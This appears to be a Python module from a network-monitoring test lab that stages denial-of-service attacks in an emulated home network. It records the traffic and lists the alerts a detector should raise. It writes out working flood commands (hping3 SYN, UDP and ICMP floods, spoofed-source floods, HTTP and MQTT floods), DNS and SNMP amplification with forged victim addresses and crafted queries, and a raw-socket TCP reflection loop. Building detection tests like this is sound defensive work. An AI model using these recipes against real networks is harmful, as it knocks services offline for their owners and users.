"""Floods, reflections, and what they look like from beside: many packets in a short time."""

import random
import socket
import struct
import threading
import time

from . import mirai, services
from .behaviour import Alert, Claim, behaviour
from .lab import ATTACKER, HUB, NEIGHBOURS, SERVER, build, play
from .story import in_device

INNOCENT = (*NEIGHBOURS, SERVER)


def sent(what, expression, least):
    return Claim(f"{what} sent to the server", f"ip.src=={ATTACKER} && ip.dst=={SERVER} && {expression}", least)


FLOODS = {  # name: (kind of alert, hping3 options, what, claim)
    "syn-flood": ("syn-flood", ("-S", "-p", 80, "-i", "u800", "-c", 6000), "6,000 SYNs from one address to one port",
                  sent("SYNs", "tcp.flags==0x2", 6000)),
    "udp-flood": ("udp-flood", ("-2", "-p", 9999, "-d", 600, "-i", "u800", "-c", 6000), "6,000 UDP datagrams of 600 bytes to one closed port",
                  sent("datagrams", "udp && !icmp", 6000)),
    "icmp-flood": ("icmp-flood", ("-1", "-d", 800, "-i", "u800", "-c", 6000), "6,000 large echo requests",
                   sent("echo requests", "icmp.type==8", 6000)),
}


def register_flood(name, kind, options, what, claim):
    @behaviour(name, "attack", f"hping3 sends {what} of a server as fast as it can, about a thousand a second.",
               expected=(Alert(kind, ATTACKER, (SERVER,)),), never=INNOCENT, tools=("hping3", "busybox"), snaplen=78, claims=(claim,))
    def flood(net, capture):
        build(net)
        services.small_web(net, "server")
        play(net, capture, lambda: net.attack("attacker", "hping3", "-q", *options, SERVER, timeout=60))


for flood_name, flood_details in FLOODS.items():
    register_flood(flood_name, *flood_details)


def quiet_internet(net):
    """Answers to invented addresses end in the internet without an ICMP error."""
    net.run("internet", "ip", "route", "add", "blackhole", "default")


@behaviour("syn-flood-spoofed", "attack", "hping3 sends 5,000 SYNs with invented source addresses from the internet to a web server of the home, "
           "which answers them all.",
           expected=(Alert("syn-flood", None, (SERVER,)),), never=INNOCENT, tools=("hping3", "nginx-light"), snaplen=78,
           claims=(Claim("sources of SYNs", f"ip.dst=={SERVER} && tcp.flags==0x2", 4000, None, "ip.src"),))
def syn_flood_spoofed(net, capture):
    build(net)
    quiet_internet(net)
    services.small_web(net, "server")
    play(net, capture, lambda: net.attack("internet", "hping3", "-q", "-S", "-p", 80, "--rand-source", "-i", "u800", "-c", 5000, SERVER,
                                          timeout=60), after=3)


@behaviour("udp-flood-out", "attack", "A camera of the home (192.168.50.22) that takes part in an attack sends 6,000 UDP datagrams to random ports "
           "of one address on the internet.",
           expected=(Alert("udp-flood", "192.168.50.22", ("203.0.113.150",)),), never=INNOCENT, tools=("hping3",), snaplen=78,
           claims=(Claim("datagrams", "ip.src==192.168.50.22 && ip.dst==203.0.113.150 && udp && !icmp", 6000),))
def udp_flood_out(net, capture):
    build(net)
    net.device("camera", 22, "44:19:b6:51:00:16")
    net.silent("internet", "203.0.113.150")
    play(net, capture, lambda: net.attack("camera", "hping3", "-q", "-2", "-p", "++1024", "-d", 512, "-i", "u800", "-c", 6000, "203.0.113.150",
                                          timeout=60))


@behaviour("http-flood", "attack", "One device asks a web server 1,200 times in a few seconds over forty connections at once, a new one each time.",
           expected=(Alert("connection-flood", ATTACKER, (SERVER,)),), never=INNOCENT, tools=("apache2-utils", "nginx-light"), snaplen=66,
           claims=(sent("connections", "tcp.flags==0x2", 1200),))
def http_flood(net, capture):
    build(net)
    services.web(net, "server")
    play(net, capture, lambda: net.attack("attacker", "ab", "-q", "-n", 1200, "-c", 40, f"http://{SERVER}/status.json", timeout=60))


@behaviour("mqtt-flood", "attack", "Three clients on one device publish 2,000 messages each (QoS 1) to the broker, together about a thousand a "
           "second.",
           expected=(Alert("mqtt-flood", ATTACKER, (SERVER,)),), never=INNOCENT, tools=("mosquitto", "mosquitto-clients"), snaplen=110,
           claims=(Claim("publications", f"ip.src=={ATTACKER} && mqtt.msgtype==3", 5000),))
def mqtt_flood(net, capture):
    build(net)
    services.mqtt_broker(net, "server", {"admin": "admin"})

    def work():
        command = ("mosquitto_pub", "-h", SERVER, "-u", "admin", "-P", "admin", "-q", 1, "-t", "home/flood", "-m", "x" * 40, "--repeat", 2000,
                   "--repeat-delay", "0.002")
        threads = [threading.Thread(target=net.attack, args=("attacker", *command)) for _ in range(3)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    play(net, capture, work)


def in_parallel(net, name, commands):
    """Several tools at once, each in its own process."""
    for process in [net.start(name, *command) for command in commands]:
        process.wait(90)


def dns_query(name="big.example"):
    """A TXT query that takes answers of 4,096 bytes (EDNS)."""
    labels = b"".join(bytes((len(part),)) + part.encode() for part in name.split("."))
    return struct.pack("!HHHHHH", 0x4C57, 0x0100, 1, 0, 0, 1) + labels + b"\0" + struct.pack("!HH", 16, 1) + b"\0" + struct.pack(
        "!HHIH", 41, 4096, 0, 0)


REFLECTORS = tuple(f"203.0.113.{host}" for host in (11, 24, 37, 50, 63, 76, 95, 108, 134, 147))


@behaviour("amplification-dns", "attack", "Ten open resolvers on the internet (dnsmasq) answer small DNS queries that somebody sends in the name of "
           "a server of the home: 2,000 answers of 2.9 kB, in fragments, that it never asked for. Its own device tells them 'port "
           "unreachable'.",
           expected=(Alert("amplification", None, (SERVER,)),), never=INNOCENT, tools=("hping3", "dnsmasq"), snaplen=160,
           claims=(Claim("first fragments of DNS answers", f"udp.srcport==53 && ip.dst=={SERVER} && ip.frag_offset==0", 1500),
                   Claim("DNS queries of the server", f"udp.dstport==53 && ip.src=={SERVER} && !icmp", 0, 0),
                   Claim("reflectors", f"udp.srcport==53 && ip.dst=={SERVER} && !icmp", 10, 10, "ip.src")))
def amplification_dns(net, capture):
    build(net)
    text = ",".join('"' + "v=lapwing " + "abcdefghij" * 22 + '"' for _ in range(4))  # a line of the file has at most 1,024 bytes
    conf = services.config(net, "reflector.conf", "no-resolv\nno-hosts\nedns-packet-max=4096\nuser=root\npid-file=\n" +
                           f"txt-record=big.example,{text}\n" * 3)
    net.start("internet", "dnsmasq", "-k", "-C", conf, log="reflector")
    services.wait_for_port(net, "internet", 53, kind="-u")
    net.run("internet", "sysctl", "-qw", "net.ipv4.conf.lo.rp_filter=0", "net.ipv4.conf.all.accept_local=1")
    query = net.state / "query"
    query.write_bytes(dns_query())

    def work():
        commands = [("hping3", "-q", "-2", "-a", SERVER, "-p", 53, "-s", 30000, "-k", "-d", query.stat().st_size, "-E", query, "-i", "u50000", "-c",
                     200, reflector) for reflector in REFLECTORS]
        net.show("internet", *commands[0][:-1], "REFLECTOR", "(ten at once)")
        in_parallel(net, "internet", commands)

    play(net, capture, work, after=4)


def snmp_bulk_query():
    """A GetBulkRequest for forty rows under 1.3.6.1.2.1, community public: 41 bytes for about a kilobyte."""
    wrap = lambda tag, body: bytes((tag, len(body))) + body
    number = lambda value: wrap(2, bytes((value,)))
    names = wrap(0x30, wrap(0x30, wrap(6, bytes((0x2B, 6, 1, 2, 1))) + b"\x05\0"))
    return wrap(0x30, number(1) + wrap(4, b"public") + wrap(0xA5, number(7) + number(0) + number(40) + names))


@behaviour("amplification-snmp-reflectors", "attack", "The other side: somebody on the internet sends small SNMP requests in the name of "
           "198.51.100.50 to two devices of the home (snmpd, community public), and these send answers twenty times as large to it.",
           expected=(Alert("amplification", None, ("198.51.100.50",)),), never=NEIGHBOURS[1:], tools=("hping3", "snmpd"), snaplen=120,
           claims=(Claim("requests", "udp.dstport==161 && ip.src==198.51.100.50", 1100),
                   Claim("answers of 500 bytes and more", "udp.srcport==161 && ip.dst==198.51.100.50 && ip.len>500", 1000)))
def amplification_snmp(net, capture):
    build(net)
    for name in ("server", "hub"):
        services.snmp(net, name)
    net.silent("internet", "198.51.100.50")
    query = net.state / "query"
    query.write_bytes(snmp_bulk_query())

    def work():
        commands = [("hping3", "-q", "-2", "-a", "198.51.100.50", "-p", 161, "-s", 40000, "-k", "-d", query.stat().st_size, "-E", query, "-i",
                     "u15000", "-c", 600, target) for target in (SERVER, HUB)]
        net.show("internet", *commands[0][:-1], "REFLECTOR", "(two at once)")
        in_parallel(net, "internet", commands)

    play(net, capture, work, after=4)


@behaviour("tcp-reflection", "attack", "Somebody sends SYNs in the name of a server of the home to the web servers of two hundred addresses: they "
           "answer it with SYN-ACKs that it never asked for, and it refuses each with a RST. Whoever counts only its RSTs sees it talk to "
           "two hundred hosts.",
           expected=(Alert("tcp-reflection", None, (SERVER,)),), never=INNOCENT, tools=("nginx-light",), snaplen=78,
           note="The SYNs with the false source are sent by a script (`syn` in recording/mirai.py).",
           claims=(Claim("unasked SYN-ACKs", f"ip.dst=={SERVER} && tcp.flags==0x12", 3000),
                   Claim("hosts that send them", f"ip.dst=={SERVER} && tcp.flags==0x12", 190, None, "ip.src"),
                   Claim("SYNs of the server", f"ip.src=={SERVER} && tcp.flags==0x2", 0, 0)))
def tcp_reflection(net, capture):
    build(net)
    net.run("internet", "sysctl", "-qw", "net.ipv4.conf.lo.rp_filter=0", "net.ipv4.conf.all.accept_local=1")
    chance = random.Random("reflect")

    def reflect():
        sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        for number in range(3200):
            target = f"203.0.113.{1 + number * 7 % 200}"
            packet = mirai.syn(SERVER, target, chance.randrange(1024, 65000), chance.choice((80, 443)), chance.randrange(1 << 32),
                               chance.randrange(1 << 16))
            sender.sendto(packet, (target, 0))
            time.sleep(0.0025)

    net.show("internet", f"(3,200 SYNs with source {SERVER} to ports 80 and 443 of 203.0.113.1 to .200)")
    play(net, capture, lambda: in_device(net, "internet", reflect))


@behaviour("backscatter", "attack", "What a spoofed SYN flood looks like on the victim's uplink when only one direction is seen: the server sends "
           "SYN-ACKs and RSTs to thousands of addresses and ports that it never chose.",
           tolerated=(Alert("syn-flood", None, (SERVER,)),), never=INNOCENT, tools=("hping3", "busybox"), snaplen=78,
           note="Captured on the server's own port of the switch, frames from the server only.",
           claims=(Claim("addresses the server answers", f"ip.src=={SERVER} && (tcp.flags==0x12 || tcp.flags==0x14)", 4000, None, "ip.dst"),
                   Claim("frames to the server", f"ip.dst=={SERVER}", 0, 0)))
def backscatter(net, capture):
    build(net)
    quiet_internet(net)
    services.small_web(net, "server")

    def work():
        for port in (80, 81):
            net.attack("internet", "hping3", "-q", "-S", "-p", port, "--rand-source", "-i", "u1000", "-c", 2500, SERVER, timeout=60)

    play(net, lambda: capture(interface=net.ports["server"], direction="in"), work, after=3)
